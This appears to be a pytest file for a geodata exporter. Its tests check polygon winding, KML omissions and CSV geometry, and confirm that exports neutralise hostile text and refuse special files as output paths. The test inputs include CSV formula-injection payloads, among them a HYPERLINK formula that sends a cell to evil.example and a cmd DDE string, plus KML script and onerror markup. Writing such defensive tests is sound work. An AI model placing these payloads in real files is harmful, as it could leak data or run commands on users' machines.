"""What each data export holds and leaves out, hostile text in every export, and where an export may be written.

Issue 12 item 13 (winding, KML polygons and what KML leaves out, CSV geometry as WKT) and issue 13 items 3–6 and 13
(formula injection in CSV, live markup in KML, special files as ``--out``, control characters, a full disk).
"""

from __future__ import annotations

import csv
import errno
import html
import json
import os
import re
import stat
import xml.etree.ElementTree as ET
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pyogrio
import pytest
import shapely
from shapely.geometry import MultiPolygon, Point, Polygon

from geo import schema
from geo.claims import fold
from geo.errors import GeoError
from geo.exporters import ExportResult, export, to_csv, to_geojson, to_gpkg, to_kml

KML = "{http://www.opengis.net/kml/2.2}"
_CLOCKWISE = [(35.0, 47.3), (35.0, 47.7), (35.6, 47.7), (35.6, 47.3), (35.0, 47.3)]
_HOLE_CCW = [(35.2, 47.4), (35.4, 47.4), (35.4, 47.6), (35.2, 47.6), (35.2, 47.4)]
HOSTILE = "A\x00B\x07C\x1b[31mD\x0b\x0cE ]]> <script>alert(1)</script> \u202eRTL\u202c \ud800 \ufffe end"
"""Control characters (NUL among them), a CDATA end, markup, right-to-left marks, a lone surrogate and U+FFFE."""


def _frames(titles: list[str] | None = None) -> tuple[gpd.GeoDataFrame, pd.DataFrame]:
    """Four folded events as an analyst's export gets them: a point, a clockwise area with a hole, an area of two
    parts, and a strike known only to its regions; one claim each (the area's disputed)."""
    ids = ["pt", "area", "parts", "regions"]
    titles = titles or ["Strike on Zaporizhzhia", "Claimed advance", "Two pockets", "Drones over two regions"]
    text = {  # object columns, as a caller's frame may hold them: they can carry lone surrogates (Arrow text cannot)
        "place": ["Zaporizhzhia", "South of Huliaipole", "Two pockets", "Bryansk and Kursk"],
        "title": titles,
    }
    events = gpd.GeoDataFrame(
        {
            "event_id": ids,
            "layer": ["strike", "capture", "capture", "strike"],
            "place": pd.Series(text["place"], dtype=object),
            "admin1": ["UA-23", "UA-23", "UA-14;UA-23", "RU-BRY;RU-KRS"],
            "geo_precision": ["exact", "exact", "exact", "admin1"],
            "time_start": pd.to_datetime(["2026-02-15", "2026-02-10", "2026-02-11", "2026-02-14"]),
            "time_end": pd.to_datetime(["2026-02-15", "2026-02-12", "2026-02-11", "2026-02-15"]),
            "time_precision": ["day"] * 4,
            "dataset": ["test"] * 4,
            "title": pd.Series(text["title"], dtype=object),
        },
        geometry=[
            Point(35.139, 47.838),
            Polygon(_CLOCKWISE, [_HOLE_CCW]),
            MultiPolygon([Polygon(_CLOCKWISE), Polygon([(37.6, 47.9), (37.6, 48.1), (37.9, 48.1), (37.9, 47.9)])]),
            None,
        ],
        crs=schema.CRS,
    )
    claims = pd.DataFrame(
        {
            "claim_id": [f"{i}-1" for i in ids] + ["area-2"],
            "event_id": [*ids, "area"],
            "claimant": pd.Series(
                ["Zaporizhzhia OVA", "Russian MoD", "Russian MoD", "Russian MoD", "General Staff"], dtype=object
            ),
            "party": ["UA", "RU", "RU", "RU", "UA"],
            "stated_at": pd.to_datetime(["2026-02-15 08:00", "2026-02-12 09:00", "2026-02-11", "2026-02-15",
                                         "2026-02-12 18:00"], format="ISO8601"),
            "stance": ["asserts", "asserts", "asserts", "asserts", "denies"],
            "publisher": ["Ukrinform", "TASS", "TASS", "TASS", "Ukrinform"],
            "source_url": ["https://example.org/1"] * 5,
            "killed": [2.0, None, None, None, None],
            "intercepted": [None, None, None, 120.0, None],
            "intercepted_bound": [None, None, None, "at_least", None],
        }
    )  # fmt: skip
    for col in schema.CLAIM_COLUMN_NAMES:  # the claims as the store gives them: every column
        if col not in claims.columns:
            claims[col] = float("nan") if col in schema.CLAIM_FIGURES else pd.Series([None] * len(claims), dtype=object)
    for col in schema.EVENT_COLUMN_NAMES:
        if col not in events.columns:
            events[col] = pd.Series([None] * len(events), dtype=object)
    return fold(events, claims), claims


@pytest.fixture
def frames() -> tuple[gpd.GeoDataFrame, pd.DataFrame]:
    return _frames()


# --- what each format holds (issue 12, item 13) ---------------------------------------------------------------------


def _rings(geometry: dict) -> list[tuple[list, bool]]:
    """(ring, is_exterior) of every polygon of a GeoJSON geometry."""
    polygons = {"Polygon": [geometry.get("coordinates")], "MultiPolygon": geometry.get("coordinates")}
    return [(ring, k == 0) for poly in polygons.get(geometry["type"], []) for k, ring in enumerate(poly)]


def test_geojson_polygon_exteriors_run_counter_clockwise(frames, tmp_path):
    events, claims = frames
    doc = json.loads(to_geojson(events, claims, tmp_path / "e.geojson").read_text(encoding="utf-8"))
    rings = [ring for f in doc["features"] if f["geometry"] for ring in _rings(f["geometry"])]
    assert len(rings) == 4  # the area's exterior and hole, the two parts' exteriors
    for ring, exterior in rings:
        assert shapely.LinearRing(ring).is_ccw == exterior, ring  # RFC 7946 §3.1.6: exteriors CCW, holes CW
    assert events.geometry.iloc[1].exterior.is_ccw is False  # the input is not changed


def test_kml_writes_areas_and_says_what_it_leaves_out(frames, tmp_path):
    events, claims = frames
    out = to_kml(events, claims, tmp_path / "e.kml")
    assert isinstance(out, ExportResult) and isinstance(out, Path)
    assert (out.events, out.written, out.claims, out.claims_written) == (4, 3, 5, 4)
    assert out.left_out == {"no_geometry": 1}
    assert out.summary() == (
        "3 of 4 events, 4 of 5 claims; 1 event known only to a region or country has no point or area to place in KML"
    )
    root = ET.parse(out).getroot()
    marks = {pm.get("id"): pm for pm in root.iter(f"{KML}Placemark")}
    assert set(marks) == {"pt", "area", "parts"}
    area = marks["area"].find(f"{KML}Polygon")
    assert area is not None and area.find(f"{KML}innerBoundaryIs/{KML}LinearRing/{KML}coordinates") is not None
    assert len(marks["parts"].findall(f"{KML}MultiGeometry/{KML}Polygon")) == 2
    outer = area.find(f"{KML}outerBoundaryIs/{KML}LinearRing/{KML}coordinates").text
    ring = [tuple(map(float, p.split(","))) for p in outer.split()]
    assert shapely.LinearRing(ring).is_ccw and shapely.Polygon(ring).equals(Polygon(_CLOCKWISE))
    about = root.find(f"{KML}Document/{KML}description").text
    assert "1 event known only to a region or country is not in this file" in about
    back = pyogrio.read_dataframe(out)
    assert sorted(back.geometry.geom_type) == ["MultiPolygon", "Point", "Polygon"]


def test_export_result_of_every_format(frames, tmp_path):
    events, claims = frames
    for fmt in ("geojson", "gpkg", "csv"):
        out = export(fmt, events, claims, None, tmp_path / f"e.{fmt}")
        assert (out.format, out.written, out.claims_written, out.left_out) == (fmt, 4, 5, {}), fmt
        assert out.summary() == "4 events, 5 claims" and str(out) == str(tmp_path / f"e.{fmt}")
    kml = export("kml", events, claims, None, tmp_path / "e.kml")
    assert kml.omitted == 1 and "no point or area to place in KML" in kml.left_out_text()


def test_csv_has_wkt_for_every_geometry_and_keeps_its_columns(frames, tmp_path):
    events, claims = frames
    out = to_csv(events, claims, tmp_path / "c.csv")
    with out.open(encoding="utf-8", newline="") as fh:
        rows = {r["claim_id"]: r for r in csv.DictReader(fh)}
    first = next(iter(rows.values()))
    assert list(first)[:2] == ["event_id", "event_layer"]
    assert {"event_id", "lon", "lat", "wkt", "claim_id", "claim_claimant", "claim_publisher"} <= set(first)
    assert (rows["pt-1"]["lon"], rows["pt-1"]["lat"]) == ("35.139", "47.838")
    assert shapely.from_wkt(rows["pt-1"]["wkt"]).equals(Point(35.139, 47.838))
    assert rows["area-1"]["lon"] == "" and shapely.from_wkt(rows["area-1"]["wkt"]).equals(events.geometry.iloc[1])
    assert shapely.from_wkt(rows["parts-1"]["wkt"]).equals(events.geometry.iloc[2])
    assert rows["regions-1"]["wkt"] == rows["regions-1"]["lon"] == ""  # no invented geometry
    assert rows["regions-1"]["event_admin1"] == "RU-BRY;RU-KRS"


# --- formula injection in CSV (issue 13, item 3) ------------------------------------------------------------------


def test_csv_cells_that_would_run_as_formulas_are_neutralised(tmp_path):
    titles = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+7 (495) 696-71-71", "-2+3", "@SUM(A1:A9)"]
    events, claims = _frames(titles)
    events.loc[0, "place"] = "\tTab first"
    claims.loc[0, "claimant"] = "\r=cmd|' /C calc'!A0"
    events = events.set_geometry([Point(-0.5, 51.5), *events.geometry.iloc[1:]])  # a negative longitude
    claims.loc[0, "killed"] = -5.0  # not a valid figure, but a number: it stays one
    out = to_csv(events, claims, tmp_path / "f.csv")
    with out.open(encoding="utf-8", newline="") as fh:
        rows = {r["claim_id"]: r for r in csv.DictReader(fh)}
    assert [rows[f"{i}-1"]["event_title"] for i in ("pt", "area", "parts", "regions")] == ["'" + t for t in titles]
    assert rows["pt-1"]["event_place"] == "'\tTab first"
    assert rows["pt-1"]["claim_claimant"] == "'\r=cmd|' /C calc'!A0"
    for row in rows.values():
        assert not row["event_title"].startswith(("=", "+", "-", "@", "\t", "\r"))
    assert rows["pt-1"]["lon"] == "-0.5" and float(rows["pt-1"]["claim_killed"]) == -5  # no quote: a number
    numbers = pd.read_csv(out)
    assert numbers["lon"].dtype.kind == "f" and numbers.loc[numbers["claim_id"] == "pt-1", "claim_killed"].item() == -5
    assert rows["area-1"]["claim_stated_at"] == "2026-02-12T09:00:00"  # dates are not touched


# --- live markup in KML (issue 13, item 4) ------------------------------------------------------------------------


def test_kml_names_and_descriptions_are_escaped_html(tmp_path):
    img = "<img src=x onerror=alert(1)>"
    events, claims = _frames([img, "Fish & chips ]]> end", "Two pockets", "Regions"])
    claims.loc[0, "claimant"] = "<script>alert(2)</script>"
    out = to_kml(events, claims, tmp_path / "m.kml")
    marks = {pm.get("id"): pm for pm in ET.parse(out).getroot().iter(f"{KML}Placemark")}
    name = marks["pt"].find(f"{KML}name").text
    description = marks["pt"].find(f"{KML}description").text
    assert name == "&lt;img src=x onerror=alert(1)&gt;" and html.unescape(name) == img  # shown as text
    assert "<" not in description.replace("<br>", "") and "&lt;script&gt;alert(2)&lt;/script&gt;" in description
    assert marks["area"].find(f"{KML}name").text == "Fish &amp; chips ]]&gt; end"
    raw = out.read_text(encoding="utf-8")
    assert "<img" not in raw and "<script" not in raw


# --- hostile text in every export (issue 13, item 6) --------------------------------------------------------------


def test_every_export_parses_with_hostile_text(tmp_path):
    events, claims = _frames([HOSTILE, "Claimed advance", "Two pockets", HOSTILE])
    claims.loc[0, "claimant"] = HOSTILE
    events.loc[0, "place"] = "\x00"
    outs = {fmt: export(fmt, events, claims, None, tmp_path / f"h.{fmt}") for fmt in ("geojson", "gpkg", "csv", "kml")}
    for fmt, out in outs.items():
        assert out.replaced >= 3 and "written as �" in out.summary(), fmt
    kml_root = ET.parse(outs["kml"]).getroot()
    names = [pm.find(f"{KML}name").text for pm in kml_root.iter(f"{KML}Placemark")]
    assert "\ufffd" in names[0] and "]]&gt;" in names[0] and "\u202eRTL" in names[0]
    assert len(pyogrio.read_dataframe(outs["kml"])) == 3
    doc = json.loads(outs["geojson"].read_text(encoding="utf-8"))
    title = doc["features"][0]["properties"]["title"]
    assert title.startswith("A\ufffdB\ufffdC\ufffd[31mD\ufffd\ufffdE ]]> <script>") and "\ud800" not in title
    assert len(pyogrio.read_dataframe(outs["geojson"])) == 4
    gpkg_events = pyogrio.read_dataframe(outs["gpkg"], layer="events")
    gpkg_claims = pyogrio.read_dataframe(outs["gpkg"], layer="claims", read_geometry=False)
    assert gpkg_events.loc[0, "title"] == title and gpkg_events.loc[0, "place"] == "\ufffd"
    assert gpkg_claims.set_index("claim_id").loc["pt-1", "claimant"] == title
    with outs["csv"].open(encoding="utf-8", newline="") as fh:
        rows = {r["claim_id"]: r for r in csv.DictReader(fh)}
    assert len(rows) == 5 and rows["pt-1"]["event_title"] == title and rows["pt-1"]["event_place"] == "\ufffd"


# --- where an export may be written (issue 13, items 5 and 13) ----------------------------------------------------

WRITERS = [to_geojson, to_gpkg, to_csv, to_kml]
SUFFIX = {to_geojson: ".geojson", to_gpkg: ".gpkg", to_csv: ".csv", to_kml: ".kml"}


@pytest.mark.parametrize("writer", WRITERS)
def test_special_files_are_refused_not_replaced(frames, tmp_path, writer):
    events, claims = frames
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    real = tmp_path / "real.txt"
    real.write_text("keep", encoding="utf-8")
    (tmp_path / "link").symlink_to(real)
    (tmp_path / "stdout").symlink_to("/proc/self/fd/1")
    cases = {"pipe": "FIFO", "link": "symbolic link", "stdout": "symbolic link"}
    try:
        os.mknod(tmp_path / "null", stat.S_IFCHR | 0o666, os.makedev(1, 3))
        cases["null"] = "a device"
    except PermissionError:
        pass  # not root: no device node to try
    for name, what in cases.items():
        with pytest.raises(GeoError, match=f"unwritable path .*{name}'.*{what}") as err:
            writer(events, claims, tmp_path / name)
        assert "\n" not in str(err.value)
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode) and (tmp_path / "link").is_symlink()
    assert real.read_text(encoding="utf-8") == "keep"
    if "null" in cases:
        assert stat.S_ISCHR(os.lstat(tmp_path / "null").st_mode)
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted({"real.txt", *cases})


@pytest.mark.parametrize("writer", WRITERS)
def test_replacing_a_file_keeps_its_mode_and_a_new_file_gets_the_usual_one(frames, tmp_path, writer):
    events, claims = frames
    old = tmp_path / f"shared{SUFFIX[writer]}"
    old.write_text("old", encoding="utf-8")
    old.chmod(0o640)
    writer(events, claims, old)
    assert stat.S_IMODE(old.stat().st_mode) == 0o640 and old.read_bytes() != b"old"
    umask = os.umask(0o027)
    try:
        new = writer(events, claims, tmp_path / f"new{SUFFIX[writer]}")
    finally:
        os.umask(umask)
    assert stat.S_IMODE(new.stat().st_mode) == 0o640  # as open() gives it under this umask (mkstemp's is 0o600)


def _full_disk(tmp: Path, *_args, **_kwargs) -> None:
    """Write half a file, as a disk that fills up does, then fail as it does."""
    path = Path(tmp) if isinstance(tmp, (str, os.PathLike)) else None
    if path is not None:
        path.write_bytes(b"half a fi")
        path.with_name(path.name + "-journal").write_bytes(b"j")
    raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))


@pytest.mark.parametrize(
    ("writer", "target"),
    [
        (to_geojson, "pathlib.Path.write_text"),
        (to_csv, "pandas.DataFrame.to_csv"),
        (to_kml, "xml.etree.ElementTree.ElementTree.write"),
        (to_gpkg, "pyogrio.write_dataframe"),
    ],
)
def test_a_full_disk_is_one_line_and_leaves_no_file(frames, tmp_path, monkeypatch, writer, target):
    events, claims = frames
    old = tmp_path / f"e{SUFFIX[writer]}"
    old.write_text("old", encoding="utf-8")
    if target == "xml.etree.ElementTree.ElementTree.write" or target == "pandas.DataFrame.to_csv":
        monkeypatch.setattr(target, lambda self, tmp, *a, **k: _full_disk(tmp))
    elif target == "pathlib.Path.write_text":
        monkeypatch.setattr(target, lambda self, *a, **k: _full_disk(self))
    else:
        monkeypatch.setattr(target, lambda frame, tmp, *a, **k: _full_disk(tmp))
    with pytest.raises(GeoError) as err:
        writer(events, claims, old)
    message = str(err.value)
    assert "\n" not in message and "No space left on device" in message and "free some space" in message
    assert old.read_text(encoding="utf-8") == "old"
    assert [p.name for p in tmp_path.iterdir()] == [old.name]  # no temporary file, no journal


def test_a_folder_that_takes_no_files_is_one_line(frames):
    if not Path("/proc/version").is_file():
        pytest.skip("no /proc/version here")
    events, claims = frames
    before = Path("/proc/version").read_text()
    with pytest.raises(GeoError, match=r"^could not write '/proc/version': its folder takes no new files"):
        to_csv(events, claims, "/proc/version")
    assert Path("/proc/version").read_text() == before


def test_the_export_marker_is_the_one_the_reader_knows():
    from geo.exporters.data import NATIVE_MEMBER, NATIVE_VERSION
    from geo.importers.native import MEMBER, VERSION

    assert (NATIVE_MEMBER, NATIVE_VERSION) == (MEMBER, VERSION)


def test_cli_export_onto_proc_is_one_line(capsys, tmp_path):
    if not Path("/proc/version").is_file():
        pytest.skip("no /proc/version here")
    from geo.cli import main
    from geo.store import open_store

    store = tmp_path / "s.gpkg"
    open_store(store, create=True, seed=True)
    code = main(["export", "--format", "csv", "--out", "/proc/version", "--store", str(store)])
    err = capsys.readouterr().err
    assert code == 1 and re.fullmatch(r"error: could not write '/proc/version': [^\n]+\n", err), err
